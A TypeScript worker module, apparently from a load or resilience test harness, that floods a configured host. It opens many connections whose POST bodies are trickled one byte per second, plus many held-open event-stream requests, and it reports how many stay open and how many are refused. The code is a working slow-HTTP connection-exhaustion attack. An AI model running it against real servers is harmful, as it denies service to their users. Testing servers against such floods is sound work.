import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import { parentPort, workerData } from 'node:worker_threads'

export type Flood = {
  host: string
  port: number
  /** The source network address. */
  from: string
  /** Requests whose bodies are sent one byte at a time. */
  bodies: number
  streams: number
  bodyPath: string
  streamPath: string
}

/** How many connections are open, and how many streams were refused. */
export type Opened = { bodies: number; streams: number; refused: number }

const BYTE_EVERY_MS = 1_000
const BODY_BYTES = 10_000

const { host, port, from, bodies, streams, bodyPath, streamPath } = workerData as Flood
const slow = new Set<Socket>()
const listening = new Set<Socket>()
let refused = 0

function open(head: string, into: Set<Socket>): Socket {
  const socket = connect({ host, port, localAddress: from })
  socket.on('connect', () => {
    into.add(socket)
    socket.write(head)
  })
  socket.on('error', () => undefined)
  socket.on('close', () => into.delete(socket))
  return socket
}

parentPort?.on('message', () =>
  parentPort?.postMessage({ bodies: slow.size, streams: listening.size, refused } satisfies Opened),
)
for (let count = 0; count < streams; count++) {
  const head = `GET ${streamPath} HTTP/1.1\r\nhost: ${host}\r\naccept: text/event-stream\r\n\r\n`
  const socket = open(head, listening)
  socket.once('data', (bytes) => {
    if (bytes.toString('latin1').startsWith('HTTP/1.1 200')) return
    // The connection stays open all the same.
    refused++
    listening.delete(socket)
  })
  socket.resume()
}
const head = `POST ${bodyPath} HTTP/1.1\r\nhost: ${host}\r\ncontent-type: application/json\r\ncontent-length: ${BODY_BYTES}\r\n\r\n{`
for (let count = 0; count < bodies; count++) open(head, slow).resume()
for (;;) {
  for (const socket of slow) socket.write(' ')
  await wait(BYTE_EVERY_MS)
}
